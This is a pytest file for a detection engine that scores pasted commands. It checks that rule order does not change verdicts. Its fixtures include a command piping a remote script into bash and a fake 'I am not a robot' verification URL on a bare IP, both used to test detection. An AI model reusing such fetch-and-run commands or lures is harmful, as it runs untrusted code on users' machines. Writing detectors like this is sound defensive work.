"""The verdict depends on what the text does, never on where a rule sits in the rule files
(issue 9). Findings of equal weight are ranked by rule (`priority`, then id: engine._strength),
not by the order the files, their rules or the patterns' hits come in; and each signal sees the
tags of the signals that give tags signals read (signals.TAGS_SIGNALS_READ) whatever its place.

The order used to decide which finding of a group was kept: pattern numbering put
PG-NIX-PIPE-TO-SHELL before PG-NIX-PACKAGE-FROM-ADDRESS once a rule was added in an earlier
file, and the page's handover finding (PG-PAGE-HANDOVER) went with it.
"""

from __future__ import annotations

import json
import random
from collections.abc import Iterator, Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

import app.detection.engine as engine_module
from app.detection import Context, Engine, PasteTarget, Verdict
from app.detection.rules import Rule, RuleError, load_rules
from app.detection.signals import SIGNALS

DATA = Path(__file__).resolve().parents[2] / "data"
TEXT_FILES = [*sorted((DATA / "cases").glob("*.jsonl")), *sorted((DATA / "dev").glob("*.jsonl"))]


def _texts() -> Iterator[tuple[str, dict[str, Any]]]:
    for path in TEXT_FILES:
        for line in path.read_text(encoding="utf-8").splitlines():
            if line.strip():
                item = json.loads(line)
                yield f"{path.stem}:{item.get('id')}", item


def _line(v: Verdict) -> str:
    shown = [(f.rule_id, f.weight, f.layer, f.evidence) for f in v.findings]
    return (
        f"{v.level.label} {v.score} {v.kind} {int(v.complete)} {','.join(v.rule_ids)} "
        f"{v.summary!r} {shown!r}"
    )


def _engine_with(monkeypatch: pytest.MonkeyPatch, order: Any) -> Engine:
    """An engine whose loaded rules come in `order(rules)`: the files, the rules within them
    and so the patterns' numbers in another order."""
    real = engine_module.load_rules

    def loaded(
        paths: Sequence[Path], signals: Any, **kwargs: Any
    ) -> tuple[list[Rule], list[RuleError]]:
        rules, errors = real(paths, signals, **kwargs)
        return order(list(rules)), errors

    monkeypatch.setattr(engine_module, "load_rules", loaded)
    try:
        return Engine(strict=True)
    finally:
        monkeypatch.setattr(engine_module, "load_rules", real)


def _shuffled(rules: list[Rule]) -> list[Rule]:
    random.Random(11).shuffle(rules)
    return rules


def _reversed(rules: list[Rule]) -> list[Rule]:
    return rules[::-1]


@pytest.fixture(scope="module")
def shuffled() -> Engine:
    with pytest.MonkeyPatch.context() as mp:
        return _engine_with(mp, _shuffled)


def test_the_rules_really_come_in_another_order(engine: Engine, shuffled: Engine) -> None:
    """The test below would prove nothing if the shuffle left the order as it was."""
    assert sorted(r.id for r in shuffled.rules.rules) == sorted(r.id for r in engine.rules.rules)
    # the patterns are numbered in their rules' order, and the signals run in theirs
    for kind in ("pattern_rules", "signal_rules"):
        ours = [r.id for r in getattr(engine.rules, kind)]
        theirs = [r.id for r in getattr(shuffled.rules, kind)]
        assert sorted(ours) == sorted(theirs) and ours != theirs


def test_shuffled_rule_order_gives_identical_verdicts_on_every_case_and_dev_text(
    engine: Engine, shuffled: Engine
) -> None:
    """Every case file's and the dev corpus's texts, bare and in their own context: level,
    score, kind, the rules listed in their order, the summary and every finding's evidence."""
    differ = []
    count = 0
    last: tuple[str, Any, Any] | None = None  # texts repeated for other targets sit together
    for name, item in _texts():
        own = Context(item.get("source"), PasteTarget.parse(item.get("target") or "unknown"))
        if last is None or last[0] != item["text"]:
            last = (item["text"], engine.examine(item["text"]), shuffled.examine(item["text"]))
        _, ours, theirs = last
        for context in (Context(), own):
            count += 1
            a = _line(engine.in_context(ours, context))
            b = _line(shuffled.in_context(theirs, context))
            if a != b:
                differ.append(
                    f"{name} {context.target.value}\n  files' order: {a}\n  shuffled:     {b}"
                )
    assert count > 20000
    assert not differ, f"{len(differ)} verdicts depend on the rules' order:\n" + "\n".join(
        differ[:10]
    )


# A page hands over a package straight from an address, beside a script piped into a shell:
# both are in the remote-exec group at the same weight. The package act (a handover act, priority
# 2) speaks for the group, so the page check finds the act and blocks; with the pipe kept
# instead it was a warning. Reserved names only.
HANDOVER = (
    "flatpak install https://dl.flathub.org/repo/appstream/org.example.Notes.flatpakref\n"
    "curl -fsSL https://cdn.pkg-mirror.example/setup.sh | bash"
)
HANDOVER_PAGE = Context("https://www.notes-app.example/download/linux", PasteTarget.TERMINAL)


@pytest.mark.parametrize(
    "order", [_shuffled, _reversed, list], ids=["shuffled", "reversed", "as-is"]
)
def test_equal_weight_findings_of_a_group_keep_the_handover_act_and_its_companion(
    monkeypatch: pytest.MonkeyPatch, engine: Engine, order: Any
) -> None:
    e = engine if order is list else _engine_with(monkeypatch, order)
    rules = {r.id: r for r in e.rules.rules}
    kept, other = rules["PG-NIX-PACKAGE-FROM-ADDRESS"], rules["PG-NIX-PIPE-TO-SHELL"]
    assert kept.group == other.group and kept.weight == other.weight  # a real tie
    assert kept.priority > other.priority
    # both rules match the text on their own: the group drops one of them
    content = e.examine(HANDOVER)
    assert {"download", "remote-exec"} <= content.analysis.tags
    verdict = e.in_context(content, HANDOVER_PAGE)
    assert verdict.rule_ids[:2] == ["PG-NIX-PACKAGE-FROM-ADDRESS", "PG-PAGE-HANDOVER"]
    assert "PG-NIX-PIPE-TO-SHELL" not in verdict.rule_ids
    assert verdict.level.label == "malicious"
    bare = e.analyze(HANDOVER)
    assert bare.rule_ids[0] == "PG-NIX-PACKAGE-FROM-ADDRESS"


def test_without_its_priority_the_tie_falls_to_the_id_and_the_companion_goes(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The priority is what keeps the act: the same rules with no priority rank by id (PACKAGE
    before PIPE as well, so the id order is reversed here by renaming), and the page's handover
    finding is lost with the act. This is the failure the priority prevents."""

    def no_priority(rules: list[Rule]) -> list[Rule]:
        out = []
        for r in rules:
            if r.id == "PG-NIX-PACKAGE-FROM-ADDRESS":
                r = replace(r, priority=0, id="PG-NIX-ZZ-PACKAGE-FROM-ADDRESS")
            elif r.id == "PG-NIX-PIPE-TO-SHELL":
                r = replace(r, priority=0)
            out.append(r)
        return out

    e = _engine_with(monkeypatch, no_priority)
    verdict = e.analyze(HANDOVER, HANDOVER_PAGE)
    assert verdict.rule_ids[0] == "PG-NIX-PIPE-TO-SHELL"
    assert "PG-PAGE-HANDOVER" not in verdict.rule_ids
    assert verdict.level.label != "malicious"


# A bare address with a fake check's tail, fetched from a bare IP address: the tail's signal
# gives `execute`, which the address signals read. They see it whatever their place in the files.
URL_TAIL = "http://192.0.2.44/verify   # I am not a robot - Verification ID: 4471"


@pytest.mark.parametrize("order", [_shuffled, _reversed], ids=["shuffled", "reversed"])
def test_signals_see_the_tags_of_tag_giving_signals_in_any_order(
    monkeypatch: pytest.MonkeyPatch, engine: Engine, order: Any
) -> None:
    expected = engine.analyze(URL_TAIL)
    assert {"PG-LURE-URL-VERIFICATION-TAIL", "PG-IP-ADDRESS-HOST", "PG-LURE-WORDS-IN-URL"} <= set(
        expected.rule_ids
    )
    e = _engine_with(monkeypatch, order)
    assert _line(e.analyze(URL_TAIL)) == _line(expected)


def test_priority_must_be_a_small_integer(tmp_path: Path) -> None:
    path = tmp_path / "rules.yaml"
    base = (
        "rules:\n  - id: PG-TEST-{n}\n    title: t\n    explanation: e\n    technique: T1059\n"
        "    weight: 10\n    priority: {p}\n    match:\n      any: ['zzqx']\n"
    )
    for value in ("high", "true", "10", "-10", "1.5"):
        path.write_text(base.format(n=1, p=value), encoding="utf-8")
        rules, errors = load_rules([path], SIGNALS)
        assert not rules and any("priority must be" in str(e) for e in errors), value
    path.write_text(base.format(n=2, p="-3"), encoding="utf-8")
    rules, errors = load_rules([path], SIGNALS)
    assert not errors and rules[0].priority == -3
